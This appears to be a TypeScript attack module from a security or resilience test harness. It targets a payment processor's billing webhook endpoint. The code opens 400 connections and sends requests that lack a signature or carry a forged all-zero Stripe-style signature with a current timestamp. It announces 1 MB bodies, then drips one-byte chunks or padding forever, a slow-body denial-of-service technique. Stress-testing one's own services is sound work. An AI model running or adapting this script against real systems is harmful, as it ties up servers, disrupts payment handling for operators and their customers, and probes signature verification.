import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { keepConnected, writeForever } from './sockets.ts'

const CONNECTIONS = 400
const BODY_BYTES = 1_000_000
const PIECES_PER_WRITE = 2000
const WRITE_MS = 50

/**
 * Bodies of 1 MB for the payment processor's receiver from an anonymous caller: without a signature, and with a false one of the right form and time; some in chunks of one byte each.
 */
export const webhookBodies: Attack =
  ({ billingWebhookUrl }) =>
  async (count) => {
    const connection = (n: number): Promise<never> =>
      keepConnected(
        billingWebhookUrl,
        (socket) => {
          socket.write(headOf(billingWebhookUrl, { isSigned: n % 2 === 0, isChunked: n % 4 < 2 }))
          const piece =
            n % 4 < 2 ? '1\r\nx\r\n'.repeat(PIECES_PER_WRITE) : ' '.repeat(BODY_BYTES / 100)
          writeForever(socket, Buffer.from(piece), WRITE_MS)
        },
        count,
      )
    for (let n = 0; n < CONNECTIONS; n += 1) {
      void connection(n)
      if (n % 50 === 0) await sleep(10)
    }
  }

function headOf(
  url: string,
  { isSigned, isChunked }: { readonly isSigned: boolean; readonly isChunked: boolean },
): string {
  const signature = `t=${Math.floor(Date.now() / 1000)},v1=${'0'.repeat(64)}`
  return [
    'POST /api/billing/webhook HTTP/1.1',
    `Host: ${new URL(url).host}`,
    'Content-Type: application/json',
    ...(isSigned ? [`Stripe-Signature: ${signature}`] : []),
    isChunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${BODY_BYTES}`,
    '\r\n',
  ].join('\r\n')
}
